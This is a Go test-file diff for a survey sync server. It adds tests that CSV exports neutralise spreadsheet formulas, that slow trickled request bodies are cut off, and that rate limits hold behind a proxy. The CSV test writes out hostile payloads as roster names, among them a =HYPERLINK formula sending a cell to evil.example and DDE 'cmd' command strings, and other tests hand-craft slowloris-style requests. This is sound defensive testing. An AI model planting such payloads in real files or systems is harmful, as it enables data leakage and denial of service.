@@ -1,10 +1,14 @@
 package server_test
 
 import (
+	"bufio"
 	"bytes"
 	"context"
+	"encoding/csv"
 	"encoding/json"
+	"fmt"
 	"io"
+	"net"
 	"net/http"
 	"strings"
 	gosync "sync"
@@ -14,6 +18,7 @@ import (
 	"tracer/survey"
 	"tracer/survey/sqlite"
 	"tracer/sync/client"
+	"tracer/sync/server"
 	"tracer/sync/testbed"
 )
 
@@ -503,4 +508,184 @@ func TestLinkBadInputKeepsWhatIsStored(t *testing.T) {
 		t.Errorf("the revoked link: %d %q", status, msg)
 	}
 	kept("the revoked link")
+}
+
+// TestLinksCSVNeutralisesFormulas: links made through the API for alumni whose roster rows
+// hold spreadsheet formulas (=HYPERLINK, @SUM, a tab) are written to the links CSV a
+// supervisor opens in a spreadsheet with every such cell shown as text, never as a formula.
+func TestLinksCSVNeutralisesFormulas(t *testing.T) {
+	ctx := context.Background()
+	env := testbed.NewEnv(t, nil, nil)
+	hostile := []string{`=HYPERLINK("http://evil.example/?"&A1,"klik")`, `@SUM(1+1)*cmd|' /C calc'!A0`, "-2+3+cmd|' /C calc'!A0", "\t=1+1"}
+	var rows []*survey.Respondent
+	for i, name := range hostile {
+		rows = append(rows, &survey.Respondent{RosterID: fmt.Sprintf("BTG25-%04d", i+1), Name: name, Sex: "L", BatchID: "B1", Completion: "pass"})
+	}
+	if _, err := sqlite.NewServerRosterStore(env.DB).Upload(ctx, rows); err != nil {
+		t.Fatal(err)
+	}
+	f, _, _ := testbed.Builtin()
+	sup, err := client.NewClient(env.URL, client.WithToken(testbed.Token(t, env.Users, "sari", survey.RoleSupervisor)))
+	if err != nil {
+		t.Fatal(err)
+	}
+	made, err := sup.MakeLinks(ctx, survey.AssignSelector{Batch: "B1"}, f.ID, time.Now().Add(time.Hour))
+	if err != nil || len(made) != len(hostile) {
+		t.Fatalf("make: %d links, %v", len(made), err)
+	}
+	var b bytes.Buffer
+	if err := survey.WriteLinksCSV(&b, "https://tracer.example", made); err != nil {
+		t.Fatal(err)
+	}
+	got, err := csv.NewReader(&b).ReadAll()
+	if err != nil {
+		t.Fatal(err)
+	}
+	names := map[string]bool{}
+	for _, row := range got[1:] {
+		for _, cell := range row {
+			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) && !survey.PlainNumber(cell) {
+				t.Errorf("cell %q would run as a formula", cell)
+			}
+		}
+		names[row[1]] = true
+	}
+	for _, name := range hostile {
+		if !names["'"+name] {
+			t.Errorf("name %q is not in the CSV as text ('%s): %v", name, name, names)
+		}
+	}
+}
+
+// TestSlowLinkBodiesLeaveASlot: bodies trickling in through self-response links (anyone
+// holding one link can send them) never take every decoding slot: a laptop's push is
+// served meanwhile.
+func TestSlowLinkBodiesLeaveASlot(t *testing.T) {
+	ctx := context.Background()
+	env := testbed.NewEnv(t, func(c *server.Config) { c.DecodeWait = 300 * time.Millisecond }, nil)
+	if _, err := sqlite.NewServerRosterStore(env.DB).Upload(ctx, []*survey.Respondent{
+		{RosterID: "BTG25-0001", Name: "Dimas Gunawan", Sex: "L", BatchID: "B1", Completion: "pass"},
+		{RosterID: "BTG25-0002", Name: "Rina Wati", Sex: "P", BatchID: "B1", Completion: "pass"},
+	}); err != nil {
+		t.Fatal(err)
+	}
+	f, _, _ := testbed.Builtin()
+	made, err := sqlite.NewLinkStore(env.DB).MakeLinks(ctx, survey.AssignSelector{Batch: "B1"}, f.ID, time.Now().Add(time.Hour), "supri")
+	if err != nil {
+		t.Fatal(err)
+	}
+	var conns []net.Conn
+	defer func() {
+		for _, c := range conns {
+			c.Close()
+		}
+	}()
+	for i := range 4 { // two bodies through each link
+		conn, err := net.Dial("tcp", env.HTTP.Listener.Addr().String())
+		if err != nil {
+			t.Fatal(err)
+		}
+		conns = append(conns, conn)
+		fmt.Fprintf(conn, "POST /r/%s/submission HTTP/1.1\r\nHost: x\r\nContent-Type: multipart/form-data; boundary=b\r\nContent-Length: 100000\r\n\r\n--b\r\nContent-Disposition: form-data; name=\"xml_submission_file\"\r\n\r\n<data",
+			made[i%2].Token)
+	}
+	time.Sleep(200 * time.Millisecond) // the slow bodies are being read
+	tok := testbed.Token(t, env.Users, "ani", survey.RoleEnumerator)
+	lap := testbed.NewLaptop(t)
+	want, err := testbed.Seed(ctx, lap.Interviews, "ani", 3)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if sum := syncOnce(t, newClient(t, env.URL, tok), lap); sum.Count(survey.OutcomeStored) != 3 {
+		t.Fatalf("a laptop's sync while link bodies trickle: %+v", sum)
+	}
+	testbed.CheckSame(t, env.Subs, want, lap)
+}
+
+// TestSlowLinkBodyIsCutOff: a body trickled through one link is cut off after LinkBodyTime
+// with a message saying to send again, and another alumnus's answers sent meanwhile
+// through his own link are stored.
+func TestSlowLinkBodyIsCutOff(t *testing.T) {
+	ctx := context.Background()
+	env := testbed.NewEnv(t, func(c *server.Config) { c.DecodeWait, c.LinkBodyTime = 5*time.Second, 300*time.Millisecond }, nil)
+	if _, err := sqlite.NewServerRosterStore(env.DB).Upload(ctx, []*survey.Respondent{
+		{RosterID: personaRosterID, Name: "Dimas Gunawan", Sex: "L", BatchID: "B1", Phone: "+6281234567001", Completion: "pass"},
+		{RosterID: "BTG25-0072", Name: "Rina Wati", Sex: "P", BatchID: "B1", Phone: "+6281234567002", Completion: "pass"},
+	}); err != nil {
+		t.Fatal(err)
+	}
+	f, answers, _ := testbed.Builtin()
+	links := sqlite.NewLinkStore(env.DB)
+	dimas, err := links.MakeLinks(ctx, survey.AssignSelector{RosterIDs: []string{personaRosterID}}, f.ID, time.Now().Add(time.Hour), "supri")
+	if err != nil {
+		t.Fatal(err)
+	}
+	rina, err := links.MakeLinks(ctx, survey.AssignSelector{RosterIDs: []string{"BTG25-0072"}}, f.ID, time.Now().Add(time.Hour), "supri")
+	if err != nil {
+		t.Fatal(err)
+	}
+	conn, err := net.Dial("tcp", env.HTTP.Listener.Addr().String())
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer conn.Close()
+	fmt.Fprintf(conn, "POST /r/%s/submission HTTP/1.1\r\nHost: x\r\nContent-Type: multipart/form-data; boundary=b\r\nContent-Length: 100000\r\n\r\n--b\r\nContent-Disposition: form-data; name=\"xml_submission_file\"\r\n\r\n<data",
+		rina[0].Token)
+	go func() {
+		for range 200 { // a byte every 50 ms, for 10 s
+			if _, err := conn.Write([]byte(" ")); err != nil {
+				return
+			}
+			time.Sleep(50 * time.Millisecond)
+		}
+	}()
+	time.Sleep(100 * time.Millisecond) // the slow body holds the links' slot
+	status, msg := postLink(t, env.URL+"/r/"+dimas[0].Token, instanceXML(f, answers, "55555555-aaaa-4aaa-8aaa-000000000001"))
+	if status != http.StatusCreated {
+		t.Errorf("another alumnus's answers while a body trickles: %d %q, want 201", status, msg)
+	}
+	conn.SetReadDeadline(time.Now().Add(5 * time.Second))
+	resp, err := http.ReadResponse(bufio.NewReader(conn), nil)
+	if err != nil {
+		t.Fatalf("the slow body got no answer: %v", err)
+	}
+	b, _ := io.ReadAll(resp.Body)
+	if resp.StatusCode != http.StatusBadRequest || !strings.Contains(string(b), "took too long to arrive") {
+		t.Errorf("the slow body: %d %q, want 400 saying it took too long", resp.StatusCode, b)
+	}
+}
+
+// TestLinkLimitsPerClientBehindProxy: behind a reverse proxy on the server's machine (every
+// connection from loopback), the per-address limit of the link routes counts the client
+// the proxy names in X-Forwarded-For: one client that uses up its share is refused while
+// another alumnus's page still opens. The client's own X-Forwarded-For entries, which the
+// proxy keeps before the address it adds, are not believed.
+func TestLinkLimitsPerClientBehindProxy(t *testing.T) {
+	e := newLinkEnv(t)
+	get := func(fwd string) int {
+		req, _ := http.NewRequest(http.MethodGet, e.url, nil)
+		req.Header.Set("X-Forwarded-For", fwd)
+		resp, err := http.DefaultClient.Do(req)
+		if err != nil {
+			t.Fatal(err)
+		}
+		resp.Body.Close()
+		return resp.StatusCode
+	}
+	refused := false
+	for i := range 40 { // over the burst of 30, each claiming another address first
+		if get(fmt.Sprintf("10.9.9.%d, 203.0.113.5", i)) == http.StatusTooManyRequests {
+			refused = true
+			break
+		}
+	}
+	if !refused {
+		t.Fatal("40 requests at once from one client behind the proxy were all served")
+	}
+	if status := get("203.0.113.6"); status != http.StatusOK {
+		t.Errorf("another client's page behind the proxy: %d, want 200", status)
+	}
+	if status := get("2001:db8:1:2::7, 2001:db8:1:2::8"); status != http.StatusOK {
+		t.Errorf("an IPv6 client's page: %d, want 200", status)
+	}
 }
